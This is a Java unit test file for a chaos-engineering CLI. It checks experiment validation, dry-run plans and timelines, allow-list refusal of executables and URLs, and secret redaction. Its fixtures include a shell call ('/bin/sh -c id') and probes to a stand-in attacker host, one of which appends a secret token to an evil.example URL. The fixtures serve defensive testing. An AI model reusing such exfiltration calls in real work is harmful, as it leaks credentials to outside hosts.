package io.valentia.chaos.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.valentia.eventbus.EventCodec;
import java.io.PrintWriter;
import java.io.StringWriter;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import picocli.CommandLine;

class ExperimentCommandTest {
  private final StringWriter out = new StringWriter();
  private final StringWriter err = new StringWriter();

  private int run(String... args) {
    CommandLine cli = new CommandLine(new ExperimentCommand());
    cli.setOut(new PrintWriter(out));
    cli.setErr(new PrintWriter(err));
    return cli.execute(args);
  }

  @Test
  @DisplayName("validate says a valid experiment is valid and exits 0")
  void valid() {
    assertThat(run("validate", "src/test/resources/experiments/every-feature.yaml")).isZero();
    assertThat(out.toString())
        .contains(
            "valid: 'The frame loop",
            "6 steady-state probe(s)",
            "3 method activities",
            "1 rollback(s)");
  }

  @Test
  @DisplayName("validate lists every problem with file, line and path, and exits 1")
  void invalid() {
    assertThat(run("validate", "src/test/resources/experiments/broken.yaml")).isEqualTo(1);
    assertThat(out.toString())
        .contains("12 problem(s), nothing was run")
        .contains("broken.yaml:1:8: title: must be a non-empty string")
        .contains("broken.yaml:43:10: method[4].ref: no activity is named nowhere");
  }

  @Test
  @DisplayName("validate --json gives each problem with its line and column")
  void json() throws Exception {
    assertThat(run("validate", "--json", "src/test/resources/experiments/tls-certificate.json"))
        .isEqualTo(1);
    JsonNode result = EventCodec.MAPPER.readTree(out.toString());
    assertThat(result.path("valid").asBoolean()).isFalse();
    assertThat(result.path("problems")).hasSize(2);
    assertThat(result.path("problems").get(0).path("line").asInt()).isEqualTo(13);
  }

  @Test
  @DisplayName(
      "A file that does not exist is bad usage (exit 2), and run refuses an invalid experiment without running anything (exit 1)")
  void usage() {
    assertThat(run("validate", "no-such-file.json")).isEqualTo(2);
    assertThat(err.toString()).contains("no such file: no-such-file.json");
    assertThat(run("run", "--no-events", "src/test/resources/experiments/tls-certificate.json"))
        .isEqualTo(1);
    assertThat(out.toString()).contains("nothing was run", "the-astre-service-must-be-running");
  }

  @Test
  @DisplayName(
      "A dry run shows the plan and which fault targets the allow-list refuses, and runs nothing")
  void dryRun() {
    int code =
        run(
            "run",
            "--dry-run",
            "--allow",
            "pid=4242",
            "src/test/resources/experiments/every-feature.yaml");

    assertThat(code).isEqualTo(1);
    assertThat(out.toString())
        .contains(
            "plan of 'The frame loop",
            "fault process-pause on [pid:4242] for 5s",
            "fault cpu-quota on [cgroup:batch]")
        .contains(
            "the allow-list refuses:",
            "starve-the-batch-cgroup: cgroup:batch is not on the allow-list")
        .doesNotContain("pause-the-neighbour: pid");
  }

  @Test
  @DisplayName(
      "A dry run prints the method's timeline: when each fault starts and ends, and that the method lasts until the last fault ends")
  void dryRunTimeline() throws Exception {
    run("run", "--dry-run", "src/test/resources/experiments/every-feature.yaml");

    assertThat(out.toString())
        .contains("timeline of the method")
        .contains("pause-the-neighbour", "process-pause on [pid:4242] from +0.0 s to +5.0 s")
        .contains("cpu-quota on [cgroup:batch] from +0.5 s to +10.5 s")
        .contains("the activities end at +2.5 s; the method goes on until +10.5 s");

    out.getBuffer().setLength(0);
    run("run", "--dry-run", "--json", "src/test/resources/experiments/every-feature.yaml");
    JsonNode timeline = EventCodec.MAPPER.readTree(out.toString()).path("timeline");
    assertThat(timeline.path("methodEnd").asDouble()).isEqualTo(10.5);
    assertThat(timeline.path("activitiesEnd").asDouble()).isEqualTo(2.5);
    assertThat(timeline.path("faults").findValuesAsText("activity"))
        .containsExactly("pause-the-neighbour", "starve-the-batch-cgroup");
    assertThat(timeline.path("faults").get(1).path("start").asDouble()).isEqualTo(0.5);
    assertThat(timeline.path("faults").get(1).path("end").asDouble()).isEqualTo(10.5);
  }

  @Test
  @DisplayName(
      "A dry run shows which executables and URLs the allow-list refuses, naming chaos.allow.executables and chaos.allow.urls, and passes those --allow lists")
  void dryRunProviders(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    java.nio.file.Path file = dir.resolve("calls.yaml");
    java.nio.file.Files.writeString(
        file,
        """
        title: calls
        method:
          - {type: action, name: say, provider: {type: process, path: /bin/echo, arguments: hi}}
          - {type: action, name: shell, provider: {type: process, path: /bin/sh, arguments: [-c, id]}}
          - {type: probe, name: health, provider: {type: http, url: "http://localhost:9090/health"}}
          - {type: probe, name: leak, provider: {type: http, url: "https://evil.example/"}}
        """);

    int code =
        run(
            "run",
            "--dry-run",
            "--allow",
            "executable=/bin/echo",
            "--allow",
            "url=http://localhost:9090/",
            file.toString());

    assertThat(code).isEqualTo(1);
    assertThat(out.toString())
        .contains(
            "the allow-list refuses:",
            "shell: process /bin/sh is not on the allow-list of executables (chaos.allow.executables)",
            "leak: URL https://evil.example/ is not on the allow-list of URL prefixes (chaos.allow.urls)")
        .doesNotContain("say: process", "health: URL");

    out.getBuffer().setLength(0);
    assertThat(
            run(
                "run",
                "--dry-run",
                "--allow",
                "executable=/bin/echo",
                "--allow",
                "executable=/bin/sh",
                "--allow",
                "url=http://localhost:9090/",
                "--allow",
                "url=https://evil.example/",
                file.toString()))
        .isZero();
    assertThat(out.toString())
        .contains("every fault target, executable and URL is on the allow-list");
  }

  @Test
  @DisplayName("A dry run hides the experiment's secrets in the plan and in what it refuses")
  void dryRunHidesSecrets(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
      throws Exception {
    java.nio.file.Path file = dir.resolve("secret.yaml");
    java.nio.file.Files.writeString(
        file,
        """
        title: secret
        secrets: {api: {token: hunter2-secret}}
        method:
          - {type: action, name: send, secrets: [api],
             provider: {type: process, path: /bin/echo, arguments: ["${token}"]}}
          - {type: probe, name: call, secrets: [api],
             provider: {type: http, url: "https://evil.example/?t=${token}"}}
        """);

    run("run", "--dry-run", file.toString());
    run("run", "--dry-run", "--json", file.toString());

    assertThat(out.toString()).doesNotContain("hunter2-secret").contains("[redacted]");
  }

  @Test
  @DisplayName(
      "validate with a configuration lists the process and http calls its allow-list refuses as problems and exits 1; without one it checks the document only")
  void validateWithConfig(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
      throws Exception {
    java.nio.file.Path file = dir.resolve("calls.yaml");
    java.nio.file.Files.writeString(
        file,
        """
        title: calls
        method:
          - {type: action, name: shell, provider: {type: process, path: /bin/sh, arguments: [-c, id]}}
        """);
    java.nio.file.Path config = dir.resolve("valentia.yaml");
    java.nio.file.Files.writeString(config, "chaos:\n  allow:\n    executables: [/usr/bin/curl]\n");

    assertThat(run("validate", file.toString())).isZero();
    assertThat(run("validate", "--config", config.toString(), file.toString())).isEqualTo(1);
    assertThat(out.toString())
        .contains(
            "method[0].provider.path: shell: process /bin/sh is not on the allow-list of"
                + " executables (chaos.allow.executables)");
    assertThat(run("validate", "--allow", "executable=/bin/sh", "--json", file.toString()))
        .isZero();
  }

  @Test
  @DisplayName("--allow executable= takes an absolute path only")
  void badExecutable() {
    assertThat(
            run(
                "run",
                "--dry-run",
                "--allow",
                "executable=sh",
                "src/test/resources/experiments/every-feature.yaml"))
        .isEqualTo(2);
    assertThat(err.toString()).contains("must be an absolute path");
  }

  @Test
  @DisplayName("--allow with an unknown kind is bad usage")
  void badAllow() {
    assertThat(
            run(
                "run",
                "--dry-run",
                "--allow",
                "planet=earth",
                "src/test/resources/experiments/every-feature.yaml"))
        .isEqualTo(2);
    assertThat(err.toString()).contains("--allow planet=earth: must be KIND=PATTERN");
  }
}
